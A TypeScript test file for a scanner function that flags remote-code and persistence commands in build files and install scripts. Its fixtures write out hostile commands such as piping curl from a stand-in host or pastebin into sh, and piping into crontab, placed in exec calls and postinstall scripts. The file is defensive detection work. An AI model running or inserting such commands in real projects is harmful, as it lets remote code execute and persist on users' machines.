import { describe, expect, it } from 'vitest';
import { testBuild } from '../test-build.ts';
import { commandFindings } from './commands.ts';

const FETCH = 'curl -s http://a.com/i | sh';
const PERSIST = 'crontab -';

function scripts(name: string, command: string): string {
  return JSON.stringify({ scripts: { [name]: command } });
}

describe('commandFindings()', () => {
  it.each([
    ['a.js', `require('child_process').exec('${FETCH}')`, 'error'],
    ['a.py', `import os\nos.system('${FETCH}')`, 'error'],
    ['a.js', "require('child_process').exec('curl https://a.com/install.sh | sh')", 'warn'],
    ['a.js', "require('child_process').exec('curl http://a.com/install.sh | sh')", 'error'],
    [
      'a.js',
      "require('child_process').exec('curl https://pastebin.com/raw/install | sh')",
      'error',
    ],
  ])('%s that starts %j: %s', (path, text, level) => {
    expect(commandFindings(testBuild({ [path]: text }), 'remote-code')).toMatchObject([
      { code: 'remote-code-command', file: path, level },
    ]);
  });

  it.each([
    ['postinstall', 'error'],
    ['build', 'info'],
  ])('the script "%s": %s', (name, level) => {
    const build = testBuild({ 'package.json': scripts(name, PERSIST) });
    expect(commandFindings(build, 'persistence')).toMatchObject([
      { code: 'persistence-command', file: 'package.json', level, place: { line: 1 } },
    ]);
  });

  it('leaves to the rule of shell text what that rule reports', () => {
    const build = testBuild({ 'package.json': scripts('build', FETCH) });
    expect(commandFindings(build, 'remote-code')).toEqual([]);
  });

  it('reads shell files line by line', () => {
    const build = testBuild({ 'a.sh': `#!/bin/sh\n# ${PERSIST}\necho a\necho x | ${PERSIST}\n` });
    expect(commandFindings(build, 'persistence')).toMatchObject([
      { file: 'a.sh', level: 'info', place: { line: 4, column: 1 } },
    ]);
  });

  it('is stricter where a shell file runs at install', () => {
    const build = testBuild({
      'package.json': scripts('install', 'sh a.sh'),
      'a.sh': `echo x | ${PERSIST}\n${FETCH}\n`,
    });
    expect(commandFindings(build, 'persistence')).toMatchObject([{ level: 'error' }]);
    expect(commandFindings(build, 'remote-code')).toMatchObject([{ level: 'error' }]);
  });

  it('knows a shell file without extension by its first line', () => {
    const build = testBuild({ run: `#!/usr/bin/env bash\n${PERSIST}\n`, notes: `${PERSIST}\n` });
    expect(commandFindings(build, 'persistence')).toMatchObject([{ file: 'run' }]);
  });

  it('reports at most 50 lines of a file', () => {
    const build = testBuild({ 'a.sh': `${PERSIST}\n`.repeat(1_000) });
    expect(commandFindings(build, 'persistence')).toHaveLength(50);
  });

  it.each([
    ['a.js', "require('child_process').exec('npm run build')"],
    ['a.sh', 'npm ci\nnpm run build\n'],
    ['README.md', FETCH],
  ])('finds nothing in %s with %j', (path, text) => {
    expect(commandFindings(testBuild({ [path]: text }), 'remote-code')).toEqual([]);
  });
});
